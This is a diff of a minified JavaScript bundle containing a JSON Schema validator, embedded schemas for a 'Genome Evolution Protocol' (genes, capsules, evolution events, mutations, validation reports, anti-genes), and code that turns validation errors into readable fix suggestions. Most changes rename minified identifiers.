 keyword:"required",keywordLocation:`${c}/required`,error:`Instance does not have required property "${Ae}".`});const Ne=Object.
 keys(n);if(ke!==void 0&&Ne.length<ke&&ye.push({instanceLocation:o,keyword:"minProperties",keywordLocation:`${c}/minPrope\
 rties`,error:`Instance does not have at least ${ke} properties.`}),Te!==void 0&&Ne.length>Te&&ye.push({instanceLocation:o,
 keyword:"maxProperties",keywordLocation:`${c}/maxProperties`,error:`Instance does not have at least ${Te} properties.`}),
-V!==void 0){const Ae=`${c}/propertyNames`;for(const we in n){const Ce=`${o}/${En(we)}`,Pe=Tt(we,V,t,s,r,i,Ce,Ae);Pe.valid||
+V!==void 0){const Ae=`${c}/propertyNames`;for(const we in n){const ge=`${o}/${vn(we)}`,Pe=Tt(we,V,t,s,r,i,ge,Ae);Pe.valid||
 ye.push({instanceLocation:o,keyword:"propertyNames",keywordLocation:Ae,error:`Property name "${we}" does not match schem\
-a.`},...Pe.errors)}}if(q!==void 0){const Ae=`${c}/dependantRequired`;for(const we in q)if(Cs(n,we)){const Ce=q[we];for(const Pe of Ce)
-Cs(n,Pe)||ye.push({instanceLocation:o,keyword:"dependentRequired",keywordLocation:Ae,error:`Instance has "${we}" but doe\
-s not have "${Pe}".`})}}if(U!==void 0)for(const[Ae,we]of Object.entries(U)){const Ce=`${c}/dependentSchemas`;if(Cs(n,Ae)){
-const Pe=Tt(n,we,t,s,r,i,o,`${Ce}/${En(Ae)}`,l);Pe.valid||ye.push({instanceLocation:o,keyword:"dependentSchemas",keywordLocation:Ce,
+a.`},...Pe.errors)}}if(q!==void 0){const Ae=`${c}/dependantRequired`;for(const we in q)if(ys(n,we)){const ge=q[we];for(const Pe of ge)
+ys(n,Pe)||ye.push({instanceLocation:o,keyword:"dependentRequired",keywordLocation:Ae,error:`Instance has "${we}" but doe\
+s not have "${Pe}".`})}}if(U!==void 0)for(const[Ae,we]of Object.entries(U)){const ge=`${c}/dependentSchemas`;if(ys(n,Ae)){
+const Pe=Tt(n,we,t,s,r,i,o,`${ge}/${vn(Ae)}`,l);Pe.valid||ye.push({instanceLocation:o,keyword:"dependentSchemas",keywordLocation:ge,
 error:`Instance has "${Ae}" but does not match dependant schema.`},...Pe.errors)}}if(pe!==void 0){const Ae=`${c}/depende\
-ncies`;for(const we in pe)if(Cs(n,we)){const Ce=pe[we];if(Array.isArray(Ce))for(const Pe of Ce)Cs(n,Pe)||ye.push({instanceLocation:o,
-keyword:"dependencies",keywordLocation:Ae,error:`Instance has "${we}" but does not have "${Pe}".`});else{const Pe=Tt(n,Ce,
-t,s,r,i,o,`${Ae}/${En(we)}`);Pe.valid||ye.push({instanceLocation:o,keyword:"dependencies",keywordLocation:Ae,error:`Inst\
+ncies`;for(const we in pe)if(ys(n,we)){const ge=pe[we];if(Array.isArray(ge))for(const Pe of ge)ys(n,Pe)||ye.push({instanceLocation:o,
+keyword:"dependencies",keywordLocation:Ae,error:`Instance has "${we}" but does not have "${Pe}".`});else{const Pe=Tt(n,ge,
+t,s,r,i,o,`${Ae}/${vn(we)}`);Pe.valid||ye.push({instanceLocation:o,keyword:"dependencies",keywordLocation:Ae,error:`Inst\
 ance has "${we}" but does not match dependant schema.`},...Pe.errors)}}}const Re=Object.create(null);let We=!1;if(K!==void 0){
-const Ae=`${c}/properties`;for(const[we,Ce]of Object.entries(K)){if(!Cs(n,we))continue;const Pe=`${o}/${En(we)}`,Ct=Tt(n[we],
-Ce,t,s,r,i,Pe,`${Ae}/${En(we)}`);if(Re[we]=!0,Ct.valid)l[we]=!0;else if(We=r,ye.push({instanceLocation:o,keyword:"proper\
+const Ae=`${c}/properties`;for(const[we,ge]of Object.entries(K)){if(!ys(n,we))continue;const Pe=`${o}/${vn(we)}`,Ct=Tt(n[we],
+ge,t,s,r,i,Pe,`${Ae}/${vn(we)}`);if(Re[we]=!0,Ct.valid)l[we]=!0;else if(We=r,ye.push({instanceLocation:o,keyword:"proper\
 ties",keywordLocation:Ae,error:`Property "${we}" does not match schema.`},...Ct.errors),We)break}}if(!We&&W!==void 0){const Ae=`${c}\
-/patternProperties`;for(const[we,Ce]of Object.entries(W)){const Pe=new RegExp(we,"u");for(const Ct in n){if(!Pe.test(Ct))
-continue;const be=`${o}/${En(Ct)}`,lt=Tt(n[Ct],Ce,t,s,r,i,be,`${Ae}/${En(we)}`);Re[Ct]=!0,lt.valid?l[Ct]=!0:(We=r,ye.push(
+/patternProperties`;for(const[we,ge]of Object.entries(W)){const Pe=new RegExp(we,"u");for(const Ct in n){if(!Pe.test(Ct))
+continue;const be=`${o}/${vn(Ct)}`,lt=Tt(n[Ct],ge,t,s,r,i,be,`${Ae}/${vn(we)}`);Re[Ct]=!0,lt.valid?l[Ct]=!0:(We=r,ye.push(
 {instanceLocation:o,keyword:"patternProperties",keywordLocation:Ae,error:`Property "${Ct}" matches pattern "${we}" but d\
 oes not match associated schema.`},...lt.errors))}}}if(!We&&se!==void 0){const Ae=`${c}/additionalProperties`;for(const we in n){
-if(Re[we])continue;const Ce=`${o}/${En(we)}`,Pe=Tt(n[we],se,t,s,r,i,Ce,Ae);Pe.valid?l[we]=!0:(We=r,ye.push({instanceLocation:o,
+if(Re[we])continue;const ge=`${o}/${vn(we)}`,Pe=Tt(n[we],se,t,s,r,i,ge,Ae);Pe.valid?l[we]=!0:(We=r,ye.push({instanceLocation:o,
 keyword:"additionalProperties",keywordLocation:Ae,error:`Property "${we}" does not match additional properties schema.`},
-...Pe.errors))}}else if(!We&&Be!==void 0){const Ae=`${c}/unevaluatedProperties`;for(const we in n)if(!l[we]){const Ce=`${o}\
-/${En(we)}`,Pe=Tt(n[we],Be,t,s,r,i,Ce,Ae);Pe.valid?l[we]=!0:ye.push({instanceLocation:o,keyword:"unevaluatedProperties",
+...Pe.errors))}}else if(!We&&Be!==void 0){const Ae=`${c}/unevaluatedProperties`;for(const we in n)if(!l[we]){const ge=`${o}\
+/${vn(we)}`,Pe=Tt(n[we],Be,t,s,r,i,ge,Ae);Pe.valid?l[we]=!0:ye.push({instanceLocation:o,keyword:"unevaluatedProperties",
 keywordLocation:Ae,error:`Property "${we}" does not match unevaluated properties schema.`},...Pe.errors)}}}else if(d==="\
 array"){Ue!==void 0&&n.length>Ue&&ye.push({instanceLocation:o,keyword:"maxItems",keywordLocation:`${c}/maxItems`,error:`\
 Array has too many items (${n.length} > ${Ue}).`}),Ee!==void 0&&n.length<Ee&&ye.push({instanceLocation:o,keyword:"minIte\
 ms",keywordLocation:`${c}/minItems`,error:`Array has too few items (${n.length} < ${Ee}).`});const Ne=n.length;let Re=0,
-We=!1;if(te!==void 0){const Ae=`${c}/prefixItems`,we=Math.min(te.length,Ne);for(;Re<we;Re++){const Ce=Tt(n[Re],te[Re],t,
-s,r,i,`${o}/${Re}`,`${Ae}/${Re}`);if(l[Re]=!0,!Ce.valid&&(We=r,ye.push({instanceLocation:o,keyword:"prefixItems",keywordLocation:Ae,
-error:"Items did not match schema."},...Ce.errors),We))break}}if(Ie!==void 0){const Ae=`${c}/items`;if(Array.isArray(Ie)){
-const we=Math.min(Ie.length,Ne);for(;Re<we;Re++){const Ce=Tt(n[Re],Ie[Re],t,s,r,i,`${o}/${Re}`,`${Ae}/${Re}`);if(l[Re]=!0,
-!Ce.valid&&(We=r,ye.push({instanceLocation:o,keyword:"items",keywordLocation:Ae,error:"Items did not match schema."},...Ce.
+We=!1;if(te!==void 0){const Ae=`${c}/prefixItems`,we=Math.min(te.length,Ne);for(;Re<we;Re++){const ge=Tt(n[Re],te[Re],t,
+s,r,i,`${o}/${Re}`,`${Ae}/${Re}`);if(l[Re]=!0,!ge.valid&&(We=r,ye.push({instanceLocation:o,keyword:"prefixItems",keywordLocation:Ae,
+error:"Items did not match schema."},...ge.errors),We))break}}if(Ie!==void 0){const Ae=`${c}/items`;if(Array.isArray(Ie)){
+const we=Math.min(Ie.length,Ne);for(;Re<we;Re++){const ge=Tt(n[Re],Ie[Re],t,s,r,i,`${o}/${Re}`,`${Ae}/${Re}`);if(l[Re]=!0,
+!ge.valid&&(We=r,ye.push({instanceLocation:o,keyword:"items",keywordLocation:Ae,error:"Items did not match schema."},...ge.
 errors),We))break}}else for(;Re<Ne;Re++){const we=Tt(n[Re],Ie,t,s,r,i,`${o}/${Re}`,Ae);if(l[Re]=!0,!we.valid&&(We=r,ye.push(
 {instanceLocation:o,keyword:"items",keywordLocation:Ae,error:"Items did not match schema."},...we.errors),We))break}if(!We&&
-je!==void 0){const we=`${c}/additionalItems`;for(;Re<Ne;Re++){const Ce=Tt(n[Re],je,t,s,r,i,`${o}/${Re}`,we);l[Re]=!0,Ce.
+je!==void 0){const we=`${c}/additionalItems`;for(;Re<Ne;Re++){const ge=Tt(n[Re],je,t,s,r,i,`${o}/${Re}`,we);l[Re]=!0,ge.
 valid||(We=r,ye.push({instanceLocation:o,keyword:"additionalItems",keywordLocation:we,error:"Items did not match additio\
-nal items schema."},...Ce.errors))}}}if(Me!==void 0)if(Ne===0&&fe===void 0)ye.push({instanceLocation:o,keyword:"contains",
+nal items schema."},...ge.errors))}}}if(Me!==void 0)if(Ne===0&&fe===void 0)ye.push({instanceLocation:o,keyword:"contains",
 keywordLocation:`${c}/contains`,error:"Array is empty. It must contain at least one item matching the schema."});else if(fe!==
 void 0&&Ne<fe)ye.push({instanceLocation:o,keyword:"minContains",keywordLocation:`${c}/minContains`,error:`Array has less\
- items (${Ne}) than minContains (${fe}).`});else{const Ae=`${c}/contains`,we=ye.length;let Ce=0;for(let Pe=0;Pe<Ne;Pe++){
-const Ct=Tt(n[Pe],Me,t,s,r,i,`${o}/${Pe}`,Ae);Ct.valid?(l[Pe]=!0,Ce++):ye.push(...Ct.errors)}Ce>=(fe||0)&&(ye.length=we),
-fe===void 0&&Ce===0?ye.splice(we,0,{instanceLocation:o,keyword:"contains",keywordLocation:Ae,error:"Array does not conta\
-in item matching schema."}):fe!==void 0&&Ce<fe?ye.push({instanceLocation:o,keyword:"minContains",keywordLocation:`${c}/m\
-inContains`,error:`Array must contain at least ${fe} items matching schema. Only ${Ce} items were found.`}):ae!==void 0&&
-Ce>ae&&ye.push({instanceLocation:o,keyword:"maxContains",keywordLocation:`${c}/maxContains`,error:`Array may contain at \
-most ${ae} items matching schema. ${Ce} items were found.`})}if(!We&&Fe!==void 0){const Ae=`${c}/unevaluatedItems`;for(Re;Re<
+ items (${Ne}) than minContains (${fe}).`});else{const Ae=`${c}/contains`,we=ye.length;let ge=0;for(let Pe=0;Pe<Ne;Pe++){
+const Ct=Tt(n[Pe],Me,t,s,r,i,`${o}/${Pe}`,Ae);Ct.valid?(l[Pe]=!0,ge++):ye.push(...Ct.errors)}ge>=(fe||0)&&(ye.length=we),
+fe===void 0&&ge===0?ye.splice(we,0,{instanceLocation:o,keyword:"contains",keywordLocation:Ae,error:"Array does not conta\
+in item matching schema."}):fe!==void 0&&ge<fe?ye.push({instanceLocation:o,keyword:"minContains",keywordLocation:`${c}/m\
+inContains`,error:`Array must contain at least ${fe} items matching schema. Only ${ge} items were found.`}):ae!==void 0&&
+ge>ae&&ye.push({instanceLocation:o,keyword:"maxContains",keywordLocation:`${c}/maxContains`,error:`Array may contain at \
+most ${ae} items matching schema. ${ge} items were found.`})}if(!We&&Fe!==void 0){const Ae=`${c}/unevaluatedItems`;for(Re;Re<
 Ne;Re++){if(l[Re])continue;const we=Tt(n[Re],Fe,t,s,r,i,`${o}/${Re}`,Ae);l[Re]=!0,we.valid||ye.push({instanceLocation:o,
 keyword:"unevaluatedItems",keywordLocation:Ae,error:"Items did not match unevaluated items schema."},...we.errors)}}if(Ge)
-for(let Ae=0;Ae<Ne;Ae++){const we=n[Ae],Ce=typeof we=="object"&&we!==null;for(let Pe=0;Pe<Ne;Pe++){if(Ae===Pe)continue;const Ct=n[Pe];
-(we===Ct||Ce&&(typeof Ct=="object"&&Ct!==null)&&kr(we,Ct))&&(ye.push({instanceLocation:o,keyword:"uniqueItems",keywordLocation:`${c}\
+for(let Ae=0;Ae<Ne;Ae++){const we=n[Ae],ge=typeof we=="object"&&we!==null;for(let Pe=0;Pe<Ne;Pe++){if(Ae===Pe)continue;const Ct=n[Pe];
+(we===Ct||ge&&(typeof Ct=="object"&&Ct!==null)&&kr(we,Ct))&&(ye.push({instanceLocation:o,keyword:"uniqueItems",keywordLocation:`${c}\
 /uniqueItems`,error:`Duplicate items at indexes ${Ae} and ${Pe}.`}),Ae=Number.MAX_SAFE_INTEGER,Pe=Number.MAX_SAFE_INTEGER)}}}else if(d===
 "number")t==="4"?(de!==void 0&&(ne===!0&&n<=de||n<de)&&ye.push({instanceLocation:o,keyword:"minimum",keywordLocation:`${c}\
 /minimum`,error:`${n} is less than ${ne?"or equal to ":""} ${de}.`}),Se!==void 0&&(rt===!0&&n>=Se||n>Se)&&ye.push({instanceLocation:o,
@@ -3359,16 +3373,16 @@ n<de&&ye.push({instanceLocation:o,keyword:"minimum",keywordLocation:`${c}/minimu
 void 0&&n>Se&&ye.push({instanceLocation:o,keyword:"maximum",keywordLocation:`${c}/maximum`,error:`${n} is greater than ${Se}\
 .`}),ne!==void 0&&n<=ne&&ye.push({instanceLocation:o,keyword:"exclusiveMinimum",keywordLocation:`${c}/exclusiveMinimum`,
 error:`${n} is less than ${ne}.`}),rt!==void 0&&n>=rt&&ye.push({instanceLocation:o,keyword:"exclusiveMaximum",keywordLocation:`${c}\
-/exclusiveMaximum`,error:`${n} is greater than or equal to ${rt}.`})),it!==void 0&&(rb(n,it)||ye.push({instanceLocation:o,
+/exclusiveMaximum`,error:`${n} is greater than or equal to ${rt}.`})),it!==void 0&&(fb(n,it)||ye.push({instanceLocation:o,
 keyword:"multipleOf",keywordLocation:`${c}/multipleOf`,error:`${n} is not a multiple of ${it}.`}));else if(d==="string"){
-const Ne=ct===void 0&&ie===void 0?0:sb(n);ct!==void 0&&Ne<ct&&ye.push({instanceLocation:o,keyword:"minLength",keywordLocation:`${c}\
+const Ne=ct===void 0&&ie===void 0?0:Bb(n);ct!==void 0&&Ne<ct&&ye.push({instanceLocation:o,keyword:"minLength",keywordLocation:`${c}\
 /minLength`,error:`String is too short (${Ne} < ${ct}).`}),ie!==void 0&&Ne>ie&&ye.push({instanceLocation:o,keyword:"maxL\
 ength",keywordLocation:`${c}/maxLength`,error:`String is too long (${Ne} > ${ie}).`}),re!==void 0&&!new RegExp(re,"u").test(
 n)&&ye.push({instanceLocation:o,keyword:"pattern",keywordLocation:`${c}/pattern`,error:"String does not match pattern."}),
-Z!==void 0&&hd[Z]&&!hd[Z](n)&&ye.push({instanceLocation:o,keyword:"format",keywordLocation:`${c}/format`,error:`String d\
-oes not match format "${Z}".`})}return{valid:ye.length===0,errors:ye}}class ib{schema;draft;shortCircuit;lookup;constructor(e,t="\
-2019-09",s=!0){this.schema=e,this.draft=t,this.shortCircuit=s,this.lookup=gs(e)}validate(e){return Tt(e,this.schema,this.
-draft,this.lookup,this.shortCircuit)}addSchema(e,t){t&&(e={...e,$id:t}),gs(e,this.lookup)}}const ob=JSON.parse('{"$schem\
+Z!==void 0&&md[Z]&&!md[Z](n)&&ye.push({instanceLocation:o,keyword:"format",keywordLocation:`${c}/format`,error:`String d\
+oes not match format "${Z}".`})}return{valid:ye.length===0,errors:ye}}class hb{schema;draft;shortCircuit;lookup;constructor(e,t="\
+2019-09",s=!0){this.schema=e,this.draft=t,this.shortCircuit=s,this.lookup=Cs(e)}validate(e){return Tt(e,this.schema,this.
+draft,this.lookup,this.shortCircuit)}addSchema(e,t){t&&(e={...e,$id:t}),Cs(e,this.lookup)}}const pb=JSON.parse('{"$schem\
 a":"http://json-schema.org/draft-07/schema#","$id":"https://evomap.ai/gep/schemas/capsule.schema.json","title":"GEP Caps\
 ule","description":"A record of a single evolution in the Genome Evolution Protocol","type":"object","required":["type",\
 "schema_version","id","trigger","gene","summary","confidence","blast_radius","outcome","asset_id"],"properties":{"type":\
@@ -3405,7 +3419,7 @@ ibility":{"type":["string","null"],"enum":["private","unlisted","public",null]},
 :{"type":"string","minLength":1}},"cost_tier":{"type":["string","null"],"enum":["cheap","standard","premium",null]},"pac\
 k_of":{"type":["array","null"],"items":{"type":"string","pattern":"^sha256:[a-f0-9]{64}$"}},"author":{"type":["object","\
 null"],"required":["handle","evox_install_id"],"properties":{"handle":{"type":"string","minLength":1},"evox_install_id":\
-{"type":"string","minLength":1}},"additionalProperties":false}},"additionalProperties":false}'),ab=JSON.parse('{"$schema\
+{"type":"string","minLength":1}},"additionalProperties":false}},"additionalProperties":false}'),mb=JSON.parse('{"$schema\
 ":"http://json-schema.org/draft-07/schema#","$id":"https://evomap.ai/gep/schemas/evolution-event.schema.json","title":"G\
 EP EvolutionEvent","description":"Full audit record of one evolution cycle","type":"object","required":["type","schema_v\
 ersion","id","intent","signals","genes_used","mutation_id","blast_radius","outcome","source_type","asset_id"],"propertie\
@@ -3421,7 +3435,7 @@ gerprint":{"type":["object","null"]},"validation_report_id":{"type":["string","n
 ,"trigger_context":{"type":["object","null"],"properties":{"prompt":{"type":"string","maxLength":2000},"reasoning_trace"\
 :{"type":"string","maxLength":4000},"context_signals":{"type":"array","items":{"type":"string"}},"session_id":{"type":"s\
 tring"},"agent_model":{"type":"string"}},"additionalProperties":false},"asset_id":{"type":"string","pattern":"^sha256:[a\
--f0-9]{64}$"}},"additionalProperties":false}'),cb=JSON.parse(`{"$schema":"http://json-schema.org/draft-07/schema#","$id"\
+-f0-9]{64}$"}},"additionalProperties":false}'),gb=JSON.parse(`{"$schema":"http://json-schema.org/draft-07/schema#","$id"\
 :"https://evomap.ai/gep/schemas/gene.schema.json","title":"GEP Gene","description":"A reusable evolution strategy in the\
  Genome Evolution Protocol","type":"object","required":["type","schema_version","id","category","signals_match","strateg\
 y","constraints","validation","asset_id"],"properties":{"type":{"const":"Gene"},"schema_version":{"type":"string","patte\
@@ -3463,7 +3477,7 @@ ring","enum":["ci","local","prod","sandbox"]}},"additionalProperties":false},"ve
 cific projection uses this axis; absent means 'no verifier binding' and disqualifies the record from strict K_auto.","pr\
 operties":{"verifier":{"type":"string","minLength":1,"description":"Verifier identity, e.g. 'gep-verify@1.4', 'npm-test'\
 ."},"decision":{"type":"string","enum":["pass","fail","inconclusive"]}},"additionalProperties":false},"asset_id":{"type"\
-:"string","pattern":"^sha256:[a-f0-9]{64}$"}},"additionalProperties":false}`),ub=JSON.parse('{"$schema":"http://json-sch\
+:"string","pattern":"^sha256:[a-f0-9]{64}$"}},"additionalProperties":false}`),Cb=JSON.parse('{"$schema":"http://json-sch\
 ema.org/draft-07/schema#","$id":"https://evomap.ai/gep/schemas/mutation.schema.json","title":"GEP Mutation","description\
 ":"Declaration of intended change before execution. Unlike the other content-addressable asset types, the reference engi\
 ne treats Mutation as a transient in-memory object and typically does not stamp `schema_version` / `asset_id`. Both fiel\
@@ -3473,216 +3487,226 @@ xpected_effect","risk_level"],"properties":{"type":{"const":"Mutation"},"schema_
 d+\\\\.\\\\d+\\\\.\\\\d+$"},"id":{"type":"string","minLength":1},"category":{"type":"string","enum":["repair","optimize","innova\
 te","explore"]},"trigger_signals":{"type":"array","items":{"type":"string"}},"target":{"type":"string","minLength":1},"e\
 xpected_effect":{"type":"string","minLength":1},"risk_level":{"type":"string","enum":["low","medium","high"]},"asset_id"\
-:{"type":"string","pattern":"^sha256:[a-f0-9]{64}$"}},"additionalProperties":false}'),lb="^sha256:[a-f0-9]{64}$",db={type:"\
-object",required:["type","schema_version","id","gene_id","commands","overall_ok","duration_ms","created_at","asset_id"],
-properties:{type:{const:"ValidationReport"},schema_version:{type:"string",pattern:"^\\d+\\.\\d+\\.\\d+$"},id:{type:"stri\
-ng",minLength:1},gene_id:{type:"string",minLength:1},env_fingerprint:{type:["object","null"]},commands:{type:"array",items:{
-type:"object",required:["command","ok","stdout","stderr"],properties:{command:{type:"string"},ok:{type:"boolean"},stdout:{
-type:"string"},stderr:{type:"string"}}}},overall_ok:{type:"boolean"},duration_ms:{type:"integer",minimum:0},created_at:{
-type:"string",minLength:1},asset_id:{type:"string",pattern:lb}}},Cd={Gene:cb,Capsule:ob,EvolutionEvent:ab,Mutation:ub,ValidationReport:db};
-function Bb(n,e,t){return fb[t?"all":"first"][n].validate(e).errors}const fb={all:yd(!1),first:yd(!0)};function yd(n){const e=Ws.
-Dd.map(t=>[t,new ib(Cd[t],"7",n)]);return Object.fromEntries(e)}const hb=2e5,pb=50;function wd(n,e){try{return mb(n,e)}catch(t){
-if(!(t instanceof URIError))throw t;return[{kind:"invalid",pointer:[],keyword:"propertyNames",expected:"an object whose \
-keys are Unicode text",found:"not",more:0}]}}function mb(n,e){const t=Bb(n,e,JSON.stringify(e).length<=hb),s=new Map,r=new Set;
-for(const i of t){if(wb.has(i.keyword))continue;const o=Cb(i);if(!r.has(o)){r.add(o);for(const c of bb(i,n,e)){const l=gb(
-i,c),B=s.get(l);s.set(l,B?{...B,more:B.more+1}:c)}}}return[...s.values()].slice(0,pb)}function gb({keywordLocation:n},e){
+:{"type":"string","pattern":"^sha256:[a-f0-9]{64}$"}},"additionalProperties":false}'),wd={type:"string",pattern:"^\\d+\\.\\\
+d+\\.\\d+$"},bd="^sha256:[a-f0-9]{64}$",yb={type:"object",required:["type","schema_version","id","gene_id","commands","o\
+verall_ok","duration_ms","created_at","asset_id"],properties:{type:{const:"ValidationReport"},schema_version:wd,id:{type:"\
+string",minLength:1},gene_id:{type:"string",minLength:1},env_fingerprint:{type:["object","null"]},commands:{type:"array",
+items:{type:"object",required:["command","ok","stdout","stderr"],properties:{command:{type:"string"},ok:{type:"boolean"},
+stdout:{type:"string"},stderr:{type:"string"}}}},overall_ok:{type:"boolean"},duration_ms:{type:"integer",minimum:0},created_at:{
+type:"string",minLength:1},asset_id:{type:"string",pattern:bd}}},Ri={type:"array",items:{type:"string"}},wb={type:"objec\
+t",required:["type","schema_version","id","summary","trigger","avoid","asset_id"],properties:{type:{const:"AntiGene"},schema_version:wd,
+id:{type:"string",minLength:1},summary:{type:"string",minLength:1},trigger:{...Ri,minItems:1},avoid:{...Ri,minItems:1},rationale:{
+type:"string"},severity:{enum:["low","medium","high"]},source_clusters:Ri,evidence_capsules:Ri,failure_count:{type:"inte\
+ger",minimum:0},asset_id:{type:"string",pattern:bd}}},_d={Gene:gb,Capsule:pb,EvolutionEvent:mb,Mutation:Cb,ValidationReport:yb,
+AntiGene:wb};function bb(n,e,t){return _b[t?"all":"first"][n].validate(e).errors}const _b={all:Ed(!1),first:Ed(!0)};function Ed(n){
+const e=Ks.Dd.map(t=>[t,new hb(_d[t],"7",n)]);return Object.fromEntries(e)}const Eb=2e5,vb=50;function vd(n,e){try{return kb(
+n,Yl(e))}catch(t){if(!(t instanceof URIError))throw t;return[{kind:"invalid",pointer:[],keyword:"propertyNames",expected:"\
+an object whose keys are Unicode text",found:"not",more:0}]}}function kb(n,e){const t=bb(n,e,JSON.stringify(e).length<=Eb),
+s=new Map,r=new Set;for(const i of t){if(Ab.has(i.keyword))continue;const o=xb(i);if(!r.has(o)){r.add(o);for(const c of Sb(
+i,n,e)){const l=Db(i,c),B=s.get(l);s.set(l,B?{...B,more:B.more+1}:c)}}}return[...s.values()].slice(0,vb)}function Db({keywordLocation:n},e){
 switch(e.kind){case"missing":return JSON.stringify([n,...e.fields]);case"unknown":return JSON.stringify([n,e.field]);case"\
-invalid":return n}}function Cb({keyword:n,instanceLocation:e}){return`${yb.has(n)?n:"value"} ${e}`}const yb=new Set(["re\
-quired","additionalProperties"]),wb=new Set(["properties","items","false"]);function bb(n,e,t){const{keyword:s,keywordLocation:r,
-instanceLocation:i}=n,{pointer:o,value:c}=_b(t,i),l=Eb(e,r);if(s==="required"){const d=(l.required??[]).filter(h=>!bd(c,
+invalid":return n}}function xb({keyword:n,instanceLocation:e}){return`${Ob.has(n)?n:"value"} ${e}`}const Ob=new Set(["re\
+quired","additionalProperties"]),Ab=new Set(["properties","items","false"]);function Sb(n,e,t){const{keyword:s,keywordLocation:r,
+instanceLocation:i}=n,{pointer:o,value:c}=Tb(t,i),l=Ib(e,r);if(s==="required"){const d=(l.required??[]).filter(h=>!kd(c,
 h));return[{kind:"missing",pointer:o,fields:d,more:0}]}if(s==="additionalProperties"){const d=l.properties??{},h=Object.
-keys(c??{}).filter(C=>!Object.hasOwn(d,C)),g=Object.keys(d).filter(C=>!bd(c,C));return h.map(C=>({kind:"unknown",pointer:[
-...o,C],field:C,absent:g,more:0}))}const B=xb(s,l);return[{kind:"invalid",pointer:o,keyword:s,expected:B,found:Ed(c),more:0}]}
-function bd(n,e){return n!==null&&Object.hasOwn(n,e)}function _b(n,e){const t=[];let s=n;for(const r of _d(e))Array.isArray(
-s)?(t.push(Number(r)),s=s[Number(r)]??null):(t.push(r),s=s[r]??null);return{pointer:t,value:s}}function Eb(n,e){let t=Cd[n];
-for(const s of _d(e).slice(0,-1))t=t[s];return t}function _d(n){return n.split("/").slice(1).map(e=>e.replaceAll("~1","/").
-replaceAll("~0","~"))}const vb={string:"a string",array:"a list",object:"an object",integer:"an integer",number:"a numbe\
-r",boolean:"a boolean",null:"null"},kb={"^\\d+\\.\\d+\\.\\d+$":"three numbers such as `1.13.0`","^sha256:[a-f0-9]{64}$":"\
-`sha256:` and 64 hexadecimal digits"},Db=40;function xb(n,e){const t=e[n];switch(n){case"type":return[t].flat().map(s=>vb[String(
+keys(c??{}).filter(C=>!Object.hasOwn(d,C)),g=Object.keys(d).filter(C=>!kd(c,C));return h.map(C=>({kind:"unknown",pointer:[
+...o,C],field:C,absent:g,more:0}))}const B=Fb(s,l);return[{kind:"invalid",pointer:o,keyword:s,expected:B,found:xd(c),more:0}]}
+function kd(n,e){return n!==null&&Object.hasOwn(n,e)}function Tb(n,e){const t=[];let s=n;for(const r of Dd(e))Array.isArray(
+s)?(t.push(Number(r)),s=s[Number(r)]??null):(t.push(r),s=s[r]??null);return{pointer:t,value:s}}function Ib(n,e){let t=_d[n];
+for(const s of Dd(e).slice(0,-1))t=t[s];return t}function Dd(n){return n.split("/").slice(1).map(e=>e.replaceAll("~1","/").
+replaceAll("~0","~"))}const $b={string:"a string",array:"a list",object:"an object",integer:"an integer",number:"a numbe\
+r",boolean:"a boolean",null:"null"},Rb={"^\\d+\\.\\d+\\.\\d+$":"three numbers such as `1.13.0`","^sha256:[a-f0-9]{64}$":"\
+`sha256:` and 64 hexadecimal digits"},Nb=40;function Fb(n,e){const t=e[n];switch(n){case"type":return[t].flat().map(s=>$b[String(
 s)]??String(s)).join(" or ");case"enum":return`one of ${(e.enum??[]).map(s=>JSON.stringify(s)).join(", ")}`;case"const":
-return JSON.stringify(t);case"pattern":return kb[String(t)]??`a string that matches ${t}`;case"minLength":return t===1?"\
+return JSON.stringify(t);case"pattern":return Rb[String(t)]??`a string that matches ${t}`;case"minLength":return t===1?"\
 a non-empty string":`a string of at least ${t} characters`;case"maxLength":return`a string of at most ${t} characters`;case"\
 minItems":return t===1?"a non-empty list":`a list of at least ${t} items`;case"maxItems":return`a list of at most ${t} i\
 tems`;case"minimum":return`a number that is at least ${t}`;case"maximum":return`a number that is at most ${t}`;default:return`\
-a value that matches \`${n}\` in the schema`}}function Ed(n){return Array.isArray(n)?n.length===0?"an empty list":"a lis\
-t":n!==null&&typeof n=="object"?"an object":typeof n!="string"?String(n):n.length<=Db?JSON.stringify(n):`a string of ${n.
-length} characters`}var vd=ot(916);const Ob=80,Ab=4;function Ri(n,e){const t=n.slice(0,Ob),s=e.find(i=>i.includes(n));if(s!==
-void 0&&n.length>=Ab)return s;const r=e.length>0?(0,vd.kp)(t,[...e]):void 0;if(r!==void 0)return(0,vd.Io)(t,r)<=t.length/
-2?r:void 0}function _N(n){return schemaDifferences(n.type,n.value).flatMap(e=>Tb(n.type,e)).map(e=>kd(n,e,"warning"))}function Sb(n){
-const e=Rb(n)?"warning":"error";return wd(n.type,n.value).map(t=>kd(n,t,e))}function kd(n,e,t){const{type:s,id:r}=n,{pointer:i,
-more:o}=e,c={...da(n,i),severity:t},l=(B,d,h,g)=>(0,at.gk)("schema-field",{type:s,id:r,field:B,fault:d,where:h,fix:g},c);
-switch(e.kind){case"missing":{const{fields:B}=e,h=`Add what is missing as the schema of the protocol describes it${B.includes(
-"asset_id")?"; `gene-gate fix --identity --write` adds `asset_id` in the repository of its author":""}`;return l(B.join(
-"`, `"),"is missing",xd(i,o),h)}case"unknown":{const B=xd(i.slice(0,-1),o),{field:d,absent:h}=e,g=Ri(d,h),C=g===void 0?"":
-`If you meant \`${g}\`, rename it. Otherwise, `,y=`${C}${C?"remove":"Remove"} \`${d}\` or store it outside the asset`;return l(
-d,"is unknown",B,y)}case"invalid":{const{expected:B}=e,d=`${e.found}${o===0?"":` (and in ${Dd(o)})`}`,h=i.join("."),g=`m\
-ust be ${B}, but it is ${d}`;return l(h,g,"",`Change \`${h}\` to ${B}`)}}}function Dd(n){return n===1?"1 similar place":
-`${n} similar places`}function xd(n,e){return n.length===0?"":` in \`${n.join(".")}\`${e===0?"":` and ${Dd(e)}`}`}function Tb(n,e){
-const{pointer:t}=e;switch(e.kind){case"missing":{const s=e.fields.filter(r=>!Ib[n].has([...t,r].join(".")));return s.length===
-0?[]:[{...e,fields:s}]}case"unknown":return[e];case"invalid":return $b(n,t,e.keyword)?[]:[e]}}const Ib={Gene:new Set(["t\
-ype","id","schema_version","asset_id","validation","constraints","constraints.max_files","constraints.forbidden_paths"]),
-Capsule:new Set(["type","id","schema_version","asset_id"]),EvolutionEvent:new Set(["type","id","schema_version","asset_i\
-d"]),Mutation:new Set(["type","id"]),ValidationReport:new Set(["type","id"])};function $b(n,[e,...t],s){if(e==="type"||e===
